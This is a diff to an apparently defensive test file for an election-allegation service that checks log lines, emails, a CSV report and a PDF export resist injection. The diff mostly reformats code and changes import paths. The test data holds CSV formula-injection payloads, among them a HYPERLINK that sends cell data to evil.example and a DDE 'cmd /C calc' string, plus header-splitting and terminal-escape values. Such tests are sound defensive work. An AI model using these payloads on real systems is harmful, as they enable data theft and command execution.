@@ -3,8 +3,8 @@
 // names, access reasons) and the plain-text outputs (email headers, returns.csv, the PDF bundle)
 // are encoded or removed: each log line stays one JSON object, no terminal control reaches a
 // line, an email gets no extra header or recipient, and no CSV field starts a formula.
-import { loadOrCreateSigningKeys, nameUuid, signToken } from '../libs/auth';
-import { createSmtpMailer } from '../libs/mail';
+import { loadOrCreateSigningKeys, nameUuid, signToken } from '@libs/auth';
+import { createSmtpMailer } from '@libs/mail';
 import { LoggedApi, rawRequest, startLoggedApi } from './support/raw-http';
 import { startTestSmtpServer } from './support/smtp';
 import { allegationBody, eventually, startTestStack, TestStack } from './support/stack';
@@ -39,7 +39,12 @@ function expectCleanLog(): void {
 describe('log lines', () => {
   it('hostile request paths, request ids, token subjects and names, and file names each stay inside one JSON line', async () => {
     const keys = await loadOrCreateSigningKeys(stack.dataDir);
-    const token = await signToken(keys, { sub: `${nameUuid('staff@northshire')}${FORGED}`, roles: ['staff'], authorityId: 'northshire', name: `staff${FORGED}` });
+    const token = await signToken(keys, {
+      sub: `${nameUuid('staff@northshire')}${FORGED}`,
+      roles: ['staff'],
+      authorityId: 'northshire',
+      name: `staff${FORGED}`,
+    });
     const staff = `Bearer ${await stack.token('staff@northshire')}`;
     const caseId = (await stack.http.post('/allegations').set('Authorization', staff).send(allegationBody()).expect(201)).body.id;
     const before = api.lines.length;
@@ -56,7 +61,10 @@ describe('log lines', () => {
       `GET /health HTTP/1.1\r\nX-Request-Id: abc\x9b31m`,
     ];
     for (const head of heads) {
-      const res = await rawRequest(api.port, `${head.replace(' HTTP/1.1', ' HTTP/1.1\r\nHost: 127.0.0.1')}\r\nAuthorization: Bearer ${token}\r\nConnection: close`);
+      const res = await rawRequest(
+        api.port,
+        `${head.replace(' HTTP/1.1', ' HTTP/1.1\r\nHost: 127.0.0.1')}\r\nAuthorization: Bearer ${token}\r\nConnection: close`,
+      );
       expect(res.statuses[0]).toBeLessThan(500);
       expect(res.text).not.toMatch(/X-Request-Id: [^\r]*[\x1b\x9b]/i);
     }
@@ -64,7 +72,16 @@ describe('log lines', () => {
     await rawRequest(api.port, `GET /allegations HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${token}\r\nConnection: close`);
     const upload = await rawRequest(
       api.port,
-      [`POST /allegations/${caseId}/evidence HTTP/1.1`, 'Host: 127.0.0.1', `Authorization: Bearer ${token}`, 'Content-Type: application/pdf', `X-Filename: ${encodeURIComponent(`scan${FORGED}.pdf`)}`, 'X-Description: scan\x9b2J', 'Connection: close', 'Content-Length: 200000'].join('\r\n'),
+      [
+        `POST /allegations/${caseId}/evidence HTTP/1.1`,
+        'Host: 127.0.0.1',
+        `Authorization: Bearer ${token}`,
+        'Content-Type: application/pdf',
+        `X-Filename: ${encodeURIComponent(`scan${FORGED}.pdf`)}`,
+        'X-Description: scan\x9b2J',
+        'Connection: close',
+        'Content-Length: 200000',
+      ].join('\r\n'),
       'x'.repeat(1000),
       { cut: true },
     );
@@ -101,17 +118,41 @@ describe('plain-text outputs', () => {
   it('returns.csv starts no field with a formula, and the PDF bundle renders hostile text', async () => {
     const staff = `Bearer ${await stack.token('staff@northshire')}`;
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
-    const hostile = await stack.http.post('/allegations').set('Authorization', staff).send(allegationBody({ electionId: formula, description: `Seen at the polling station${FORGED}\u202eexe.pdf`, location: { ward: `+cmd|' /C calc'!A0` }, reporter: { name: `@SUM(1+1)*cmd${FORGED}`, contact: '-2+3', type: 'elector' } })).expect(201);
-    const csv = await stack.http.get('/reports/returns.csv').query({ electionId: formula }).set('Authorization', `Bearer ${await stack.token('returning_officer@northshire')}`).expect(200);
-    const fields = csv.text.trim().split('\r\n').flatMap((line) => line.split(','));
+    const hostile = await stack.http
+      .post('/allegations')
+      .set('Authorization', staff)
+      .send(
+        allegationBody({
+          electionId: formula,
+          description: `Seen at the polling station${FORGED}\u202eexe.pdf`,
+          location: { ward: `+cmd|' /C calc'!A0` },
+          reporter: { name: `@SUM(1+1)*cmd${FORGED}`, contact: '-2+3', type: 'elector' },
+        }),
+      )
+      .expect(201);
+    const csv = await stack.http
+      .get('/reports/returns.csv')
+      .query({ electionId: formula })
+      .set('Authorization', `Bearer ${await stack.token('returning_officer@northshire')}`)
+      .expect(200);
+    const fields = csv.text
+      .trim()
+      .split('\r\n')
+      .flatMap((line) => line.split(','));
     expect(fields.filter((f) => /^["]?[=+\-@\t\r]/.test(f))).toEqual([]);
     expect(csv.text.trim().split('\r\n')).toHaveLength(2);
 
-    const pdf = await stack.http.get(`/allegations/${hostile.body.id}/export`).query({ format: 'pdf' }).set('Authorization', `Bearer ${await stack.token('legal@northshire')}`).set('X-Access-Reason', 'Checking hostile text renders').buffer(true).parse((r, done) => {
-      const parts: Buffer[] = [];
-      r.on('data', (c: Buffer) => parts.push(c));
-      r.on('end', () => done(null, Buffer.concat(parts)));
-    });
+    const pdf = await stack.http
+      .get(`/allegations/${hostile.body.id}/export`)
+      .query({ format: 'pdf' })
+      .set('Authorization', `Bearer ${await stack.token('legal@northshire')}`)
+      .set('X-Access-Reason', 'Checking hostile text renders')
+      .buffer(true)
+      .parse((r, done) => {
+        const parts: Buffer[] = [];
+        r.on('data', (c: Buffer) => parts.push(c));
+        r.on('end', () => done(null, Buffer.concat(parts)));
+      });
     expect(pdf.status).toBe(200);
     expect((pdf.body as Buffer).subarray(0, 5).toString()).toBe('%PDF-');
   });
